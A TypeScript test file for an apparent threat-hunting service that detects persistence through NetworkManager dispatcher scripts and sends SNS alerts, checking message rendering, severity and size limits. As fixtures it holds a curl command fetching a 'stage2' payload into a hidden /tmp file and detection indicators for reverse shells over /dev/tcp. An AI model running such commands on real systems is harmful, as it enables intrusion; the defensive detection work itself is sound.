import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { SnsNotifier } from '../functions/adapters/sns-notifier';
import type { AlertReport } from '../functions/core/alert-report';
import { renderPublishInput } from '../functions/core/render/publish-input';
import { DROPPED_SCRIPT, REVERSE_SHELL, alertFor, newFindingsReport, summary } from './support/reports';
import { childFinding, runFinding, writeFinding } from './support/harness';

const TOPIC = 'arn:aws:sns:eu-west-1:111122223333:nm-dispatcher-hunt-alerts';
/** As the function renders it: its table and region go into every printed command. */
const OPTIONS = { kibanaUrl: 'https://kibana.example.com', triage: { table: 'NmDispatcherHunt-BaselineTable5D2B6E83-1A2B3C4D5E6F', region: 'eu-west-1' } };
const EXAMPLES = new URL('../docs/examples/', import.meta.url);

/** Compares with the committed example, or rewrites it with UPDATE_EXAMPLES=1. */
function matchesExample(name: string, actual: string) {
  const path = new URL(name, EXAMPLES);
  if (process.env.UPDATE_EXAMPLES === '1') {
    mkdirSync(EXAMPLES, { recursive: true });
    writeFileSync(path, actual.endsWith('\n') ? actual : `${actual}\n`);
  }
  assert.equal(`${actual.replace(/\n$/, '')}\n`, readFileSync(path, 'utf8'), `${name} differs: run UPDATE_EXAMPLES=1 npm run test:unit and review the diff`);
}

const scenarios: Record<string, AlertReport> = {
  'one-new-finding': newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]),
  'attack-across-both-hunts': newFindingsReport([
    alertFor(DROPPED_SCRIPT, 'path never seen'),
    alertFor(writeFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/sed', { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'] }), 'path known (written by /usr/bin/bash), new writer /usr/bin/sed'),
    alertFor(runFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'], context: { command_lines: ['/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher.sh eth0 up'] } }), 'script never seen'),
    alertFor(REVERSE_SHELL, 'script never seen'),
    alertFor(childFinding('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x'), 'script known with 2 other children, new child /usr/bin/curl', true),
  ]),
  'baseline-initialised': {
    kind: 'baseline-initialised',
    summary: summary({ learning: true, totals: { ...summary().totals, learned: 17, known: 0 } }, [{ learning: true, learned: 4, known: 0 }, { learning: true, learned: 5, known: 0 }, { learning: true, learned: 8, known: 0 }]),
  },
  'failed-and-truncated-hunts': newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')], {
    outcome: 'failed',
    hunts: summary({}, [{}, { status: 'failed', rows: 0, known: 0, error: 'Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*' }, { truncated: true, rowsCut: 3_512, rows: 10_000, new: 1, known: 9_999 }]).hunts,
    problems: [
      'dispatcher-script-child failed: Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*',
      'dispatcher-script-write: the answer was cut at 10,000 of 13,512 rare groups (3,512 not compared tonight; the most recent activity was kept). Many rare rows can be decoys hiding a finding: look for hosts writing or running many distinct dispatcher scripts, then narrow the lookback or add exclusions.',
    ],
  }),
  'cut-answer-on-a-quiet-night': {
    kind: 'problems',
    summary: summary({
      hunts: summary({}, [{}, {}, { truncated: true, rowsCut: 412, rows: 10_000, known: 10_000 }]).hunts,
      problems: ['dispatcher-script-write: the answer was cut at 10,000 of 10,412 rare groups (412 not compared tonight; the most recent activity was kept). Many rare rows can be decoys hiding a finding: look for hosts writing or running many distinct dispatcher scripts, then narrow the lookback or add exclusions.'],
    }),
  },
};

describe('the SNS message', () => {
  for (const [name, report] of Object.entries(scenarios)) {
    it(`publishes exactly the committed example for ${name}`, async () => {
      const sns = mockClient(SNSClient);
      sns.on(PublishCommand).resolves({ MessageId: 'mid-1' });
      const id = await new SnsNotifier(new SNSClient({ region: 'eu-west-1' }), TOPIC, OPTIONS).publish(report);
      assert.equal(id, 'mid-1');
      const calls = sns.commandCalls(PublishCommand);
      assert.equal(calls.length, 1);
      const input = calls[0]!.args[0].input;
      const bodies = JSON.parse(input.Message!) as { default: string; email: string; https: string };
      matchesExample(`${name}.publish-input.json`, JSON.stringify({ ...input, Message: '(the three bodies below)' }, null, 2));
      matchesExample(`${name}.email.txt`, `Subject: ${input.Subject}\n\n${bodies.email}`);
      matchesExample(`${name}.slack.json`, JSON.stringify(JSON.parse(bodies.https), null, 2));
      matchesExample(`${name}.default.json`, JSON.stringify(JSON.parse(bodies.default), null, 2));
      assert.deepEqual(Object.keys(bodies), ['default', 'email', 'https']);
      assert.equal(input.MessageStructure, 'json');
      assert.equal(input.TopicArn, TOPIC);
      sns.restore();
    });
  }

  it('carries attributes for subscription filter policies', () => {
    const input = renderPublishInput(scenarios['attack-across-both-hunts']!);
    assert.deepEqual(input.MessageAttributes, {
      kind: { DataType: 'String', StringValue: 'new-findings' },
      severity: { DataType: 'String', StringValue: 'high' },
      huntIds: { DataType: 'String.Array', StringValue: '["dispatcher-script-write","dispatcher-script-run","dispatcher-child-process","dispatcher-script-child"]' },
      newFindings: { DataType: 'Number', StringValue: '5' },
    });
    assert.equal(input.Subject, '[nm-dispatcher-hunt] 5 new findings, high: script-write, script-run, script-child');
  });

  it('keeps the earlier hunt id in huntIds so that existing filter policies still match', () => {
    const policy = (ids: string[]) => ids.includes('dispatcher-child-process');
    const child = renderPublishInput(newFindingsReport([alertFor(REVERSE_SHELL, 'script never seen')]));
    assert.ok(policy(JSON.parse(child.MessageAttributes.huntIds!.StringValue) as string[]));
    const write = renderPublishInput(newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]));
    assert.deepEqual(JSON.parse(write.MessageAttributes.huntIds!.StringValue), ['dispatcher-script-write']);
  });

  it('makes a finding high from its content, names the indicator in every channel and sets the severity attribute', () => {
    const input = renderPublishInput(newFindingsReport([alertFor(REVERSE_SHELL, 'script never seen')]));
    assert.equal(input.MessageAttributes.severity!.StringValue, 'high');
    const bodies = JSON.parse(input.Message) as { default: string; email: string; https: string };
    assert.match(bodies.email, /severity: high \(reverse shell over \/dev\/tcp or \/dev\/udp; interactive shell \(sh -i\) started by a script\)/);
    assert.match(JSON.parse(bodies.https).content.description, /severity: high \(reverse shell over \/dev\/tcp/);
    const item = (JSON.parse(bodies.default) as { newFindings: { items: { severity: string; indicators: { id: string }[] }[] } }).newFindings.items[0]!;
    assert.equal(item.severity, 'high');
    assert.deepEqual(item.indicators.map((i) => i.id), ['reverse-shell-dev-tcp', 'interactive-shell']);
    const plain = renderPublishInput(newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]));
    assert.equal(plain.MessageAttributes.severity!.StringValue, 'medium');
  });

  it('sends a cut answer even on a quiet night, saying how much was cut', () => {
    const input = renderPublishInput(scenarios['cut-answer-on-a-quiet-night']!);
    assert.equal(input.MessageAttributes.kind!.StringValue, 'problems');
    assert.match(JSON.parse(input.Message).email, /cut at 10,000 of 10,412 rare groups/);
  });

  it('says why each finding is new and gives a ready osquery query for its script', () => {
    const { email } = JSON.parse(renderPublishInput(scenarios['attack-across-both-hunts']!, OPTIONS).Message) as { email: string };
    assert.match(email, /why new: path known \(written by \/usr\/bin\/bash\), new writer \/usr\/bin\/sed/);
    assert.match(email, /WHERE f\.path = '\/etc\/NetworkManager\/dispatcher\.d\/panix-dispatcher\.sh';/);
    assert.match(email, /kibana: https:\/\/kibana\.example\.com\/app\/discover#\/\?_g=/);
    assert.match(email, /re-sent: an earlier run could not confirm this alert/);
  });

  it('fails loudly when SNS does', async () => {
    const sns = mockClient(SNSClient);
    sns.on(PublishCommand).rejects(new Error('AuthorizationError: not allowed to publish'));
    await assert.rejects(new SnsNotifier(new SNSClient({ region: 'eu-west-1' }), TOPIC).publish(scenarios['one-new-finding']!), /not allowed to publish/);
    sns.restore();
  });

  it('stays under 256 KB with 10,000 new findings and says how many were left out', () => {
    const alerts = Array.from({ length: 10_000 }, (_, i) =>
      alertFor(childFinding(`/etc/NetworkManager/dispatcher.d/${i}-${'x'.repeat(3_000)}`, '/usr/bin/curl', `curl ${'A'.repeat(5_000)} ${i}`, { eventCount: 1 + (i % 13) }), 'parent never seen'),
    );
    const input = renderPublishInput(newFindingsReport(alerts));
    const bytes = Buffer.byteLength(input.Message) + Buffer.byteLength(input.Subject) + Buffer.byteLength(JSON.stringify(input.MessageAttributes));
    assert.ok(bytes < 256 * 1024, `${bytes} bytes`);
    const bodies = JSON.parse(input.Message) as { default: string; email: string; https: string };
    const structured = JSON.parse(bodies.default) as { newFindings: { total: number; listed: number; omitted: number } };
    assert.equal(structured.newFindings.total, 10_000);
    assert.equal(structured.newFindings.listed + structured.newFindings.omitted, 10_000);
    assert.match(bodies.email, /\d+ more new findings not shown here/);
    assert.match(bodies.email, /baseline list --status alerted/);
    assert.equal(input.MessageAttributes.newFindings!.StringValue, '10000');
  });
});
